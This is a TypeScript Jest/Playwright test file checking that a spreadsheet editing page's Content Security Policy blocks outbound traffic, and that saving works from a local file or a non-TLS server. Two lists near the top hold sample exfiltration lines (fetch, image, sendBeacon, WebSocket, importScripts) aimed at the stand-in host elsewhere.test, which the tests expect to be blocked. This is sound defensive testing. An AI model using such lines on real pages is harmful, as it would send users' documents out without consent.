/** The desk as it is built keeps to the computer, wherever it lies: on a server with TLS or without, or in a folder. */
import { resolve } from "node:path";
import { pathToFileURL } from "node:url";
import { describe, expect, it } from "@jest/globals";
import type { Worker } from "playwright-core";
import type { OpenDesk } from "./inDesk";
import { awaitFile, downloaded, openFiles, typeInto, withoutHandles } from "./onDesk";
import { check, press } from "./onPane";
import { sampleBook } from "./sampleBook";
import { changedFromSample } from "./savedFile";
import { withDesk } from "./withDesk";

/** Ways in which a page could send something, as it would write them. */
const leaksOfPage = {
  "a request": "void fetch('https://elsewhere.test/plan')",
  "a request to its own server": "void fetch('/plan')",
  "a picture": "void (new Image().src = 'https://elsewhere.test/plan.png')",
  "a beacon": "void navigator.sendBeacon('https://elsewhere.test/', 'plan')",
  "a socket": "void new WebSocket('wss://elsewhere.test/')",
};

const leaksOfWorker = {
  "a request": "fetch('https://elsewhere.test/plan')",
  "a script": "importScripts('https://elsewhere.test/plan.js')",
  "a socket": "new WebSocket('wss://elsewhere.test/')",
};

async function openSample({ desk }: OpenDesk): Promise<void> {
  await awaitFile(desk, "yamaguchi-r3.xlsx");
}

function workerOf({ page }: OpenDesk): Worker {
  const [worker] = page.workers();
  if (worker === undefined) throw new Error("The document has no worker.");
  return worker;
}

describe("the desk's own policy", () => {
  const sample = { hash: "#sample", expected: /Content Security Policy|Failed to fetch/u } as const;

  it("stops whatever the page would send", async () => {
    await withDesk(sample, async (opened) => {
      await openSample(opened);
      for (const leak of Object.values(leaksOfPage)) {
        const told = opened.page.waitForEvent("console");
        await opened.desk.evaluate(leak);
        expect((await told).text()).toMatch(/Content Security Policy/u);
      }
    });
  });

  it("stops whatever a document's worker would send", async () => {
    await withDesk(sample, async (opened) => {
      await openSample(opened);
      const worker = workerOf(opened);
      for (const leak of Object.values(leaksOfWorker)) {
        const told = worker.evaluate(
          () =>
            new Promise<string>((resolve) => {
              const tell = ({ effectiveDirective }: SecurityPolicyViolationEvent): void =>
                resolve(effectiveDirective);
              addEventListener("securitypolicyviolation", tell, { once: true });
            }),
        );
        await worker.evaluate(`try { void ${leak} } catch {}`);
        expect(await told).toMatch(/^(?:connect|script)-src/u);
      }
    });
  });

  it("is told to whoever asks", async () => {
    await withDesk({}, async ({ desk }) => {
      await desk.getByText("ファイルの内容は、このコンピューターの外に送られません。").waitFor();
      await press(desk, "詳しく");
      await desk.getByText(/connect-src 'none'/u).waitFor();
    });
  });
});

async function doTheJob(opened: OpenDesk): Promise<void> {
  const { page, desk } = opened;
  await check(desk);
  await desk.getByText("12", { exact: false }).first().waitFor();
  await typeInto(opened, "D6", "協議会");
  const file = await downloaded(page, () => page.keyboard.press("Control+S"));
  expect(changedFromSample(file.bytes)).toEqual(["D6"]);
}

describe("the desk", () => {
  it("works by double click on its page", async () => {
    const address = pathToFileURL(resolve("dist/desk/index.html")).href;
    await withDesk({ address, hash: "#sample", prepare: withoutHandles }, async (opened) => {
      await openSample(opened);
      await doTheJob(opened);
    });
  });

  it("works from a server without TLS, where browsers offer less", async () => {
    await withDesk({ address: "http://desk.test/" }, async (opened) => {
      expect(await opened.desk.evaluate(() => window.isSecureContext)).toBe(false);
      await openFiles(opened.page, [{ name: "計画.xlsx", bytes: sampleBook }]);
      await awaitFile(opened.desk, "計画.xlsx");
      await doTheJob(opened);
    });
  });
});
